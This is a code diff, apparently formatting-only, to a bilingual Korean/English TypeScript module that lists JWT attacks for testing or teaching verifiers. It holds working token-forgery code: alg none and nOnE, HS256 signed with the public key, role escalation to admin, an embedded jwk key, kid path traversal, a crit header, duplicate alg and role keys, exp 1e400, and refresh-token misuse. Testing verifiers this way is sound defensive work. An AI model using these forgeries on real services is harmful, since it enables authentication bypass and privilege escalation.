@@ -45,22 +45,40 @@ export const ATTACKS: readonly Attack[] = [
   {
     id: "none",
     name: ["alg: none", "alg: none"],
-    idea: ["서명이 필요 없다고 토큰 스스로 말합니다.", "The token claims that it needs no signature."],
+    idea: [
+      "서명이 필요 없다고 토큰 스스로 말합니다.",
+      "The token claims that it needs no signature.",
+    ],
     apply: ({ header, body }) => ({ token: `${segmentOf({ ...header, alg: "none" })}.${body}.` }),
   },
   {
     id: "none-case",
     name: ["alg: nOnE", "alg: nOnE"],
-    idea: ["\"none\"만 막는 검사를 대소문자로 피합니다.", "Evades a check for the spelling \"none\"."],
-    apply: ({ header, body, signature }) => ({ token: `${segmentOf({ ...header, alg: "nOnE" })}.${body}.${signature}` }),
+    idea: ['"none"만 막는 검사를 대소문자로 피합니다.', 'Evades a check for the spelling "none".'],
+    apply: ({ header, body, signature }) => ({
+      token: `${segmentOf({ ...header, alg: "nOnE" })}.${body}.${signature}`,
+    }),
   },
   {
     id: "hs256",
     name: ["공개 키로 HS256", "HS256 with the public key"],
-    idea: ["모두가 아는 공개 키를 HMAC 비밀로 써서 서명합니다.", "Signs by HMAC with the public key as the secret."],
+    idea: [
+      "모두가 아는 공개 키를 HMAC 비밀로 써서 서명합니다.",
+      "Signs by HMAC with the public key as the secret.",
+    ],
     apply: async ({ header, claims, keys }) => {
-      const input = `${segmentOf({ ...header, alg: "HS256" })}.${segmentOf({ ...claims, role: "admin" })}`;
-      const secret = await crypto.subtle.importKey("raw", utf8(keys), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
+      const [head, body] = [
+        { ...header, alg: "HS256" },
+        { ...claims, role: "admin" },
+      ];
+      const input = `${segmentOf(head)}.${segmentOf(body)}`;
+      const secret = await crypto.subtle.importKey(
+        "raw",
+        utf8(keys),
+        { name: "HMAC", hash: "SHA-256" },
+        false,
+        ["sign"],
+      );
       const mac = await crypto.subtle.sign("HMAC", secret, utf8(input));
       return { token: `${input}.${base64url(new Uint8Array(mac))}` };
     },
@@ -69,7 +87,9 @@ export const ATTACKS: readonly Attack[] = [
     id: "promote",
     name: ["role을 admin으로", "role to admin"],
     idea: ["클레임을 바꾸고 서명은 그대로 둡니다.", "Changes a claim and keeps the signature."],
-    apply: ({ head, claims, signature }) => ({ token: `${head}.${segmentOf({ ...claims, role: "admin" })}.${signature}` }),
+    apply: ({ head, claims, signature }) => ({
+      token: `${head}.${segmentOf({ ...claims, role: "admin" })}.${signature}`,
+    }),
   },
   {
     id: "flip",
@@ -77,13 +97,18 @@ export const ATTACKS: readonly Attack[] = [
     idea: ["서명에서 단 한 비트만 다릅니다.", "Changes a single bit of the signature."],
     apply: ({ head, body, signature }) => {
       const [first, ...others] = bytesOf(signature);
-      return first === undefined ? undefined : { token: `${head}.${body}.${base64url(Uint8Array.of(first ^ 1, ...others))}` };
+      return first === undefined
+        ? undefined
+        : { token: `${head}.${body}.${base64url(Uint8Array.of(first ^ 1, ...others))}` };
     },
   },
   {
     id: "trailing-bits",
     name: ["남는 base64 비트", "Trailing base64 bits"],
-    idea: ["끝 글자의 쓰이지 않는 비트를 바꿉니다. 해독하면 같은 바이트라서, 글자로 막은 토큰이 되살아납니다.", "Changes the unused bits of the last letter. It decodes to the same bytes, so the token evades a blocklist of token texts."],
+    idea: [
+      "끝 글자의 쓰이지 않는 비트를 바꿉니다. 해독하면 같은 바이트라서, 글자로 막은 토큰이 되살아납니다.",
+      "Changes the unused bits of the last letter. It decodes to the same bytes, so the token evades a blocklist of token texts.",
+    ],
     whyNot: [
       "이 서명은 글자의 비트를 남김없이 쓰므로 바꿀 비트가 없습니다. 헤더와 내용의 글자는 서명이 지킵니다.",
       "This signature uses every bit of its letters, so there is none to change. The letters of header and payload are signed.",
@@ -101,13 +126,21 @@ export const ATTACKS: readonly Attack[] = [
   {
     id: "padding",
     name: ["base64 채움 문자", "Base64 padding"],
-    idea: ["끝에 =를 붙여 같은 토큰을 다른 글자로 씁니다.", "Appends =, which spells the same token differently."],
-    apply: ({ token, signature }) => ({ token: `${token}${"=".repeat(4 - (signature.length % 4))}` }),
+    idea: [
+      "끝에 =를 붙여 같은 토큰을 다른 글자로 씁니다.",
+      "Appends =, which spells the same token differently.",
+    ],
+    apply: ({ token, signature }) => ({
+      token: `${token}${"=".repeat(4 - (signature.length % 4))}`,
+    }),
   },
   {
     id: "embedded-key",
     name: ["헤더에 넣은 열쇠", "A key in the header"],
-    idea: ["공격자의 키로 서명하고, 그 공개 키를 헤더의 jwk에 넣습니다.", "Signs with the attacker's key and puts its public key into the header as jwk."],
+    idea: [
+      "공격자의 키로 서명하고, 그 공개 키를 헤더의 jwk에 넣습니다.",
+      "Signs with the attacker's key and puts its public key into the header as jwk.",
+    ],
     apply: async ({ header, claims }) => {
       const { sign, publicKey } = await newSigner();
       const { kty, n, e } = publicKey;
@@ -117,7 +150,10 @@ export const ATTACKS: readonly Attack[] = [
   {
     id: "kid",
     name: ["kid 주입", "kid injection"],
-    idea: ["kid를 파일 경로로 바꿔 빈 파일을 키로 쓰게 합니다.", "Sets the kid to a path, so that an empty file is used as the key."],
+    idea: [
+      "kid를 파일 경로로 바꿔 빈 파일을 키로 쓰게 합니다.",
+      "Sets the kid to a path, so that an empty file is used as the key.",
+    ],
     apply: ({ header, body, signature }) => ({
       token: `${segmentOf({ ...header, kid: "../../../../dev/null" })}.${body}.${signature}`,
     }),
@@ -125,7 +161,10 @@ export const ATTACKS: readonly Attack[] = [
   {
     id: "crit",
     name: ["crit 확장", "The crit extension"],
-    idea: ["검증기가 모르는 확장을 요구하고 무시되기를 바랍니다.", "Requires an unknown extension, which a verifier might ignore."],
+    idea: [
+      "검증기가 모르는 확장을 요구하고 무시되기를 바랍니다.",
+      "Requires an unknown extension, which a verifier might ignore.",
+    ],
     apply: ({ header, body, signature }) => ({
       token: `${segmentOf({ ...header, crit: ["b64"], b64: false })}.${body}.${signature}`,
     }),
@@ -133,26 +172,35 @@ export const ATTACKS: readonly Attack[] = [
   {
     id: "duplicate-alg",
     name: ["두 번 적은 alg", "alg twice"],
-    idea: ["앞의 값을 읽는 프로그램과 뒤의 값을 읽는 프로그램을 다르게 속입니다.", "Deceives programs that read the first value and those that read the last in different ways."],
+    idea: [
+      "앞의 값을 읽는 프로그램과 뒤의 값을 읽는 프로그램을 다르게 속입니다.",
+      "Deceives programs that read the first value and those that read the last in different ways.",
+    ],
     apply: ({ head, body, signature }) => {
-      const text = replaceIfPresent(textOf(head), /^\s*\{/, "{\"alg\":\"none\",");
+      const text = replaceIfPresent(textOf(head), /^\s*\{/, '{"alg":"none",');
       return text === undefined ? undefined : { token: `${segmentOf(text)}.${body}.${signature}` };
     },
   },
   {
     id: "duplicate-role",
     name: ["두 번 적은 role", "role twice"],
-    idea: ["role이 두 번 있습니다. 무엇이 맞을까요? 발급자가 서명까지 했습니다.", "Has two roles, signed by the issuer. Which one counts?"],
+    idea: [
+      "role이 두 번 있습니다. 무엇이 맞을까요? 발급자가 서명까지 했습니다.",
+      "Has two roles, signed by the issuer. Which one counts?",
+    ],
     signed: true,
     apply: async ({ body, sign }) => {
-      const text = replaceIfPresent(textOf(body), /\}\s*$/, ",\"role\":\"student\",\"role\":\"admin\"}");
+      const text = replaceIfPresent(textOf(body), /\}\s*$/, ',"role":"student","role":"admin"}');
       return text === undefined ? undefined : { token: await sign(text) };
     },
   },
   {
     id: "wrong-type",
     name: ["refresh 토큰 쓰기", "The refresh token"],
-    idea: ["하루 동안 쓸 수 있는 refresh 토큰을 access 토큰 자리에 냅니다.", "Presents the long-lived refresh token as an access token."],
+    idea: [
+      "하루 동안 쓸 수 있는 refresh 토큰을 access 토큰 자리에 냅니다.",
+      "Presents the long-lived refresh token as an access token.",
+    ],
     signed: true,
     apply: async ({ claims, refresh, sign }) => ({
       token: refresh ?? (await sign(JSON.stringify({ ...claims, token_type: "refresh" }))),
@@ -161,8 +209,12 @@ export const ATTACKS: readonly Attack[] = [
   {
     id: "expired",
     name: ["만료된 토큰", "Expired"],
-    idea: ["만료되는 바로 그 초에 같은 토큰을 냅니다.", "Presents the token in the second in which it expires."],
-    apply: ({ token, claims: { exp } }) => typeof exp === "number" && exp <= LAST_DATE ? { token, now: Math.max(0, exp) } : undefined,
+    idea: [
+      "만료되는 바로 그 초에 같은 토큰을 냅니다.",
+      "Presents the token in the second in which it expires.",
+    ],
+    apply: ({ token, claims: { exp } }) =>
+      typeof exp === "number" && exp <= LAST_DATE ? { token, now: Math.max(0, exp) } : undefined,
   },
   {
     id: "no-exp",
@@ -177,10 +229,13 @@ export const ATTACKS: readonly Attack[] = [
   {
     id: "huge-exp",
     name: ["exp: 1e400", "exp: 1e400"],
-    idea: ["만료 시각을 무한대로 읽히는 수로 적습니다.", "Has an expiry that many programs read as infinity."],
+    idea: [
+      "만료 시각을 무한대로 읽히는 수로 적습니다.",
+      "Has an expiry that many programs read as infinity.",
+    ],
     signed: true,
     apply: async ({ body, sign }) => {
-      const text = replaceIfPresent(textOf(body), /"exp"\s*:\s*[0-9.]+/, "\"exp\":1e400");
+      const text = replaceIfPresent(textOf(body), /"exp"\s*:\s*[0-9.]+/, '"exp":1e400');
       return text === undefined ? undefined : { token: await sign(text) };
     },
   },
@@ -227,7 +282,11 @@ export async function applyAttack(
 
 /** Whether the attack gets as far as its rule: some need a signature of the issuer. */
 export function reachesItsRule(attack: Attack, { sign, refresh }: Inspected): boolean {
-  return attack.signed === undefined || sign !== undefined || (attack.id === "wrong-type" && refresh !== undefined);
+  return (
+    attack.signed === undefined ||
+    sign !== undefined ||
+    (attack.id === "wrong-type" && refresh !== undefined)
+  );
 }
 
 /** Returns undefined when the pattern does not match. */
